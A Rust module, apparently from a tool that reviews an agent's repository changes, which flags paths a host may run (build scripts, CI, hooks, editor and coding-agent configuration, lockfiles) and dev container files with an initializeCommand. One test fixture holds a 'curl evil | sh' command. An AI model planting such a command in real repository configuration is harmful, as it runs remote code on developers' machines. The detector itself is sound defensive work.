//! Which changed paths something on the host may later run or obey: build
//! scripts, CI definitions, git attributes and submodules, editor tasks,
//! hooks, and the configuration of coding agents and editors that run
//! code or connect to servers on a developer's machine when they open the
//! repository (`.claude/`, `.codex/`, `.cursor/`, `.gemini/`, `.vscode/`,
//! `.devcontainer/`, `.mcp.json`, `.envrc`, aider's files: CVE-2025-59536
//! and its kin were exactly these), and lockfiles (`Cargo.lock`,
//! `requirements*.txt`, `uv.lock`, `poetry.lock`, `package-lock.json`: the
//! next trusted setup phase fetches what they name, with network). The queue flags an act that changes any of them, so that the
//! owner reads those changes first.
//!
//! Invariant: a pure function of the path alone; case is ignored (a
//! case-insensitive checkout would run `MAKEFILE` too), and a path is
//! matched on every directory level, so nesting never hides one
//! (`tests::nesting_and_case_never_hide`).

/// Is `path` a dev container definition (`.devcontainer.json`, or a JSON
/// file under `.devcontainer/`)?
pub fn is_devcontainer(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    let parts: Vec<&str> = lower.split('/').filter(|p| !p.is_empty()).collect();
    match parts.split_last() {
        Some((name, dirs)) => {
            *name == ".devcontainer.json"
                || (dirs.contains(&".devcontainer") && name.ends_with(".json"))
        }
        None => false,
    }
}

/// The reason shown for a dev container definition whose content (as the
/// act would publish it) holds an `initializeCommand`: unlike the rest of
/// the definition, that command runs on the developer's machine itself,
/// outside any container, when an editor opens the repository. `None` for
/// any other path or content.
pub fn risky_content(path: &str, content: &[u8]) -> Option<&'static str> {
    const KEY: &[u8] = b"initializeCommand";
    (is_devcontainer(path) && content.windows(KEY.len()).any(|w| w == KEY)).then_some(
        "dev container initializeCommand: runs on the host itself, outside any container, when an editor opens the repository",
    )
}

/// Why `path` is flagged, or `None` when nothing on the host runs it.
pub fn risky_path(path: &str) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase();
    let parts: Vec<&str> = lower.split('/').filter(|p| !p.is_empty()).collect();
    let name = *parts.last()?;
    let dirs = &parts[..parts.len() - 1];
    let under = |dir: &str| dirs.contains(&dir);
    let exact: &[(&str, &str)] = &[
        (
            ".gitattributes",
            "git attributes: filters and diff drivers run on checkout",
        ),
        (".gitmodules", "submodules: URLs git may fetch"),
        (".gitconfig", "git configuration"),
        ("makefile", "a Makefile: run by make"),
        ("gnumakefile", "a Makefile: run by make"),
        ("build.rs", "a Cargo build script: run by cargo build"),
        (
            "package.json",
            "package.json: its scripts run on npm install",
        ),
        (".envrc", ".envrc: run by direnv on cd"),
        (".pre-commit-config.yaml", "pre-commit hooks"),
        (".gitlab-ci.yml", "CI definition"),
        (".travis.yml", "CI definition"),
        ("jenkinsfile", "CI definition"),
        ("azure-pipelines.yml", "CI definition"),
        ("bitbucket-pipelines.yml", "CI definition"),
        (".cirrus.yml", "CI definition"),
        ("justfile", "a justfile: run by just"),
        ("setup.py", "setup.py: run on pip install"),
        (".npmrc", "npm configuration"),
        (
            "cargo.toml",
            "Cargo manifest: build scripts and dependencies",
        ),
        (
            "config.toml",
            "tool configuration (e.g. .cargo/config.toml)",
        ),
    ];
    if let Some((_, why)) = exact.iter().find(|(n, _)| *n == name) {
        if name != "config.toml" || under(".cargo") {
            return Some(why);
        }
    }
    if under(".github") && (under("workflows") || under("actions")) {
        return Some("CI definition (GitHub Actions)");
    }
    if under(".circleci") || under(".buildkite") || under(".woodpecker") {
        return Some("CI definition");
    }
    if under(".vscode") {
        return Some("editor configuration: tasks, settings and MCP servers VS Code runs");
    }
    if under(".claude") {
        return Some("Claude Code configuration: hooks, commands and MCP servers it runs");
    }
    if under(".codex") {
        return Some("Codex configuration: hooks and MCP servers it runs");
    }
    if under(".cursor") || name == ".cursorrules" {
        return Some("Cursor configuration: rules, hooks and MCP servers it runs");
    }
    if under(".gemini") {
        return Some("Gemini CLI configuration: settings and MCP servers it runs");
    }
    if under(".devcontainer") || name == ".devcontainer.json" {
        return Some("dev container definition: built and run by editors");
    }
    if name == ".mcp.json" {
        return Some("MCP servers: started by coding agents that open the repository");
    }
    if name.starts_with(".aider") && (name.ends_with(".yml") || name.ends_with(".json")) {
        return Some("aider configuration: read by aider in the repository");
    }
    if under(".husky") || under("hooks") || under(".githooks") || under(".git") {
        return Some("hook-like path: git or a tool may run it");
    }
    if name.starts_with("pre-commit")
        || name.starts_with("post-checkout")
        || name.starts_with("post-merge")
        || name.starts_with("pre-push")
    {
        return Some("hook-like name");
    }
    if name.ends_with(".mk") {
        return Some("a make include: run by make");
    }
    if nightshift_core::setup::is_default_lockfile(name) {
        return Some(
            "a lockfile: the agent changed dependencies the setup phase fetches with network (docs/setup.md)",
        );
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn the_files_the_host_runs_are_flagged() {
        for p in [
            ".gitattributes",
            "sub/.gitattributes",
            ".gitmodules",
            ".github/workflows/ci.yml",
            ".github/actions/x/action.yml",
            ".gitlab-ci.yml",
            "Makefile",
            "src/MAKEFILE",
            "build.rs",
            "crates/x/build.rs",
            "Cargo.lock",
            "sub/requirements-dev.txt",
            "web/package-lock.json",
            "uv.lock",
            "poetry.lock",
            "package.json",
            "web/package.json",
            ".envrc",
            ".vscode/tasks.json",
            ".pre-commit-config.yaml",
            ".husky/pre-commit",
            "hooks/post-checkout",
            ".githooks/pre-push",
            ".cargo/config.toml",
            ".circleci/config.yml",
            ".claude/settings.json",
            ".claude/settings.local.json",
            ".claude/commands/x.md",
            ".codex/config.toml",
            ".cursor/mcp.json",
            ".cursorrules",
            ".gemini/settings.json",
            ".vscode/extensions.json",
            ".vscode/mcp.json",
            ".devcontainer/devcontainer.json",
            ".devcontainer.json",
            ".mcp.json",
            "sub/.mcp.json",
            ".aider.conf.yml",
            ".aider.model.settings.yml",
        ] {
            assert!(risky_path(p).is_some(), "{p} not flagged");
        }
    }

    #[test]
    fn ordinary_files_are_not() {
        for p in [
            "src/main.rs",
            "README.md",
            "docs/config.toml",
            "make.txt",
            "src/github.rs",
            "",
        ] {
            assert!(risky_path(p).is_none(), "{p} flagged");
        }
    }

    #[test]
    fn a_devcontainers_initialize_command_is_named() {
        let def = br#"{"image": "x", "initializeCommand": "curl evil | sh"}"#;
        for p in [
            ".devcontainer/devcontainer.json",
            ".devcontainer.json",
            "a/.DevContainer/x/devcontainer.json",
        ] {
            let why = risky_content(p, def).expect(p);
            assert!(
                why.contains("initializeCommand") && why.contains("on the host itself"),
                "{why}"
            );
            // The path alone is flagged too, with its own reason.
            assert!(risky_path(p).is_some(), "{p}");
        }
        assert_eq!(
            risky_content(".devcontainer/devcontainer.json", br#"{"image": "x"}"#),
            None
        );
        assert_eq!(risky_content("docs/devcontainer.json", def), None);
        assert_eq!(risky_content(".devcontainer/Dockerfile", def), None);
    }

    #[test]
    fn every_agent_and_editor_configuration_has_its_own_reason() {
        for (p, word) in [
            (".claude/settings.json", "Claude Code"),
            (".codex/config.toml", "Codex"),
            (".cursor/mcp.json", "Cursor"),
            (".vscode/tasks.json", "VS Code"),
            (".mcp.json", "MCP servers"),
            (".envrc", "direnv"),
            (".devcontainer/devcontainer.json", "dev container"),
        ] {
            let why = risky_path(p).unwrap_or_else(|| panic!("{p} not flagged"));
            assert!(why.contains(word), "{p}: {why}");
        }
    }

    proptest! {
        /// Nesting a flagged path under any directory never hides it, and
        /// neither does changing its case.
        #[test]
        fn nesting_and_case_never_hide(dir in "[a-z]{1,8}(/[a-z]{1,8}){0,3}", upper in any::<bool>()) {
            for p in [".gitattributes", "Makefile", "build.rs", ".github/workflows/x.yml", ".vscode/tasks.json", ".claude/settings.json", ".mcp.json", ".codex/config.toml"] {
                let nested = format!("{dir}/{p}");
                let nested = if upper { nested.to_ascii_uppercase() } else { nested };
                prop_assert!(risky_path(&nested).is_some(), "{} not flagged", nested);
            }
        }
    }
}
